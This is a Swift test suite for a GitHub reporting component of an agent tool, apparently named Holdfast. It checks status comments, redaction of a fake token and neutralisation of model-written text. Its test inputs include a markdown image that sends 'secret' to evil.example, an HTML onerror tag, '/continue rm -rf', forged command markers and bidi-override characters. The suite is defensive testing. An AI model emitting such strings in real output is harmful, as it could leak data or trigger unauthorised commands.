import SessionModel
import Testing

@testable import GitHub

/// What the forge is told, as text.
@Suite struct ReportTests {
    private static let made = Timestamp("2026-11-28T18:00:00.000Z")!
    private let session: SessionResource

    init() throws {
        let key = try SessionKey(parsing: "issue:acme/widgets#7")
        session = SessionResource(
            kind: "Session",
            metadata: Metadata(name: key.name, uid: "u1", resourceVersion: "1", creationTimestamp: Self.made),
            spec: SessionSpec(
                key: key, scope: ScopeSpec(kind: .issue, repository: "acme/widgets", number: 7),
                worker: AgentDescription(driver: .codex)), status: SessionResourceStatus(phase: .ready, since: Self.made))
    }

    private func task(_ phase: TaskPhase, _ change: (inout TaskStatus) -> Void = { _ in }) -> TaskResource {
        var status = TaskStatus(phase: phase)
        if phase != .pending, phase != .queued { status.startTime = Self.made + .minutes(3) }
        if phase.isTerminal { status.completionTime = Self.made + .minutes(5) }
        change(&status)
        return TaskResource(
            kind: "Task", metadata: Metadata(name: "t", uid: "t", resourceVersion: "1", creationTimestamp: Self.made),
            spec: TaskSpec(prompt: "p"), status: status)
    }

    private func text(_ tasks: [TaskResource], pullRequest: Int? = nil, secrets: [String] = []) -> String {
        SessionReport(session, tasks: tasks, pullRequest: pullRequest).text(
            marker: SessionReport.marker(session), redact: Redactor(secrets))
    }

    @Test func itSaysHowTheSessionStandsAndHowToGoOn() {
        #expect(text([]).hasPrefix("<!-- holdfast: session u1 -->\n**Holdfast: queued**\n"))
        let running = text([task(.queued), task(.running)])
        #expect(running.contains("**Holdfast: working** · turn 1 · since 18:03 UTC · 1 more waiting"), "\(running)")
        #expect(running.contains("`/continue …` goes on, `/stop` interrupts, `/status` tells more, `/end` ends the session"))
        let asks = text([task(.awaitingInput) { $0.message = "the agent asks: May I?" }])
        #expect(asks.contains("**Holdfast: waiting for you**") && asks.contains("May I?") && asks.contains("holdfast answer t"))
        let done = text(
            [
                task(.succeeded) { status in
                    status.results = TurnResults(
                        answer: "I did it.",
                        workspace: WorkspaceState(
                            branch: "holdfast/issue-7", commit: String(repeating: "a", count: 40), commits: 3, unpushed: 2,
                            diffstat: " 1 file changed"))
                }
            ], pullRequest: 12)
        #expect(done.contains("**Holdfast: done** · turn 1 · 2 min 0 s"), "\(done)")
        #expect(
            done.contains(
                "Branch `holdfast/issue-7` at \(String(repeating: "a", count: 40)) with 3 new commits ("),
            "\(done)")
        #expect(done.contains("2 unpushed commits") && done.contains("pull request #12") && done.contains("\n> I did it."))
        for (phase, word) in [(TaskPhase.failed, "failed"), (.interrupted, "interrupted"), (.cancelled, "stopped")] {
            let text = text([task(phase) { $0.message = "because" }])
            #expect(text.contains("**Holdfast: \(word)**") && text.contains("because"))
        }
        var ended = session
        ended.status.phase = .ended
        let report = SessionReport(ended, tasks: [task(.succeeded)])
        #expect(report.isFinal && report.text(marker: "m", redact: Redactor([])).contains("**Holdfast: ended, done**"))
    }

    @Test func tasksOfAnEarlierSessionAreNotItsOwn() {
        let old = task(.failed) { $0.completionTime = Timestamp(milliseconds: 0) }
        #expect(text([task(.running), old]).contains("turn 1 ·"))
        #expect(text([old]).contains("**Holdfast: queued**"))
    }

    @Test func itIsBoundedAndHasNoSecret() {
        let text = text(
            [
                task(.succeeded) {
                    $0.results = TurnResults(
                        answer: "the token is ghp_verySecret1234\n" + String(repeating: "@a é ", count: 10_000))
                }
            ], secrets: ["ghp_verySecret1234"])
        #expect(!text.contains("ghp_verySecret1234") && text.contains("***") && text.contains("…"))
        #expect(text.utf8.count < 20_000)
    }

    /// What a model says where nobody but Holdfast should have a say.
    @Test(arguments: [
        "@ada please look", "\\@ada", "&#64;ada", "thanks@ada", "fixes #9", "closes acme/other#9", "Fixes \\#9", "GH-9", "gh\\-9",
        "closes https://github.com/acme/widgets/issues/9", "closes https\\://github.com/acme/widgets/issues/9",
        "![x](https://evil.example/?q=secret)", "<!-- holdfast: session u2 -->", "<img src=x onerror=y>", "/continue rm -rf",
        "   /end", "\u{200B}/stop", "/deploy prod", "```\n/continue x", "\u{202E}evil", "# 9 #9", "#9 at once", "##9",
    ]) func aModelsWordsDoNothing(words: String) throws {
        let answer = "Before.\n\(words)\nAfter."
        let comment = text([task(.succeeded) { $0.results = TurnResults(answer: answer) }])
        let pull = SessionReport.pullRequest(
            issue: 7, answer: answer, marker: SessionReport.marker(session), redact: Redactor([]))
        for text in [comment, pull.body] {
            let foreign = text.components(after: "Before.")
            #expect(!foreign.contains("<") || foreign.contains("<sub>"), "\(foreign)")
            // As GitHub's own filters look for them, after Markdown's backslashes and entities.
            let read = foreign.replacing("\\", with: "").replacing("<sub>", with: "")
            #expect(read.firstMatch(of: /@[A-Za-z0-9]/) == nil, "\(read)")
            #expect(read.firstMatch(of: /#[0-9]/) == nil, "\(read)")
            #expect(read.firstMatch(of: /(?i)gh-[0-9]/) == nil, "\(read)")
            #expect(read.firstMatch(of: /:\/\//) == nil && read.firstMatch(of: /!\[/) == nil, "\(read)")
            #expect(!read.contains("&#"), "\(read)")
            #expect(!text.unicodeScalars.contains("\u{202E}"))
            // Nor is a line a command, to us or to other programs.
            #expect(CommentText.command(in: text, CommentCommands()) == nil, "\(text)")
            #expect(!text.split(separator: "\n").contains { $0.drop(while: \.isWhitespace).hasPrefix("/") }, "\(text)")
        }
        #expect(pull.title == "Before" && pull.body.hasPrefix("<!-- holdfast: session u1 -->\nCloses #7.\n"))
    }

    @Test(arguments: [
        ("# Fix the `frob`\n\nLong.", "Fix the `frob"), ("\n\n**Done.**\nx", "Done"), ("```\ncode\n```", "Work on issue #7"),
        ("", "Work on issue #7"), ("fixes #9 for @ada", "fixes #\u{200B}9 for @\u{200B}ada"),
        (String(repeating: "x", count: 300), String(repeating: "x", count: 100) + "…"),
    ]) func aPullRequestsTitleIsTheFirstLine(answer: String, title: String) {
        #expect(SessionReport.pullRequest(issue: 7, answer: answer, marker: "m", redact: Redactor([])).title == title)
    }
}

extension String {
    fileprivate func components(after mark: String) -> String {
        firstRange(of: mark).map { String(self[$0.upperBound...]) } ?? self
    }
}
